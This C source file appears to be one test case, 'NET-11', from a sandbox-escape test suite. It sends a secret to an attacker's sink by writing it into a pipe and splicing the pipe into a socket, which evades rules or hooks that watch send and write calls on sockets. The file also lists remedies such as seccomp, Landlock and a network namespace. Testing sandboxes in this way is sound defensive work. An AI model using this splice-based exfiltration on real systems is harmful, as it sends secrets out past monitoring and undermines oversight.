// SPDX-License-Identifier: MIT
/*
 * Goal:  bytes reach the attacker's host.
 * Means: splice(2) moves them from a pipe into the socket. What is written is written to a pipe, as
 *        any program may; a rule, or a hook, for send and write to a socket sees nothing.
 */
#include "attacks/attack.h"

#include <fcntl.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

static enum claim run(const struct brief *b)
{
	size_t n = strlen(b->secret);
	int pipes[2], sink;

	if (pipe2(pipes, O_CLOEXEC) || write(pipes[1], b->secret, n) < 0)
		return failed("pipe");
	attempting(b);
	sink = dial(SOCK_STREAM, b->sink);
	if (sink < 0)
		return denied("connect");
	if (splice(pipes[0], NULL, sink, NULL, n, 0) < 0)
		return denied("splice");
	return CLAIM_DONE;
}

const struct attack attack = {
	.effect = "bytes reach the attacker's host",
	.means = "splice(2) from a pipe to a socket: no send, no write to it",
	.oracle = "sink",
	.id = "NET-11",
	.attack_id = "T1041, CWE-184",
	.remedy = "seccomp without socket(2); Landlock without connecting; a network namespace",
	.refs = (const char *const[]){ "splice(2)", NULL },
	.run = run,
};
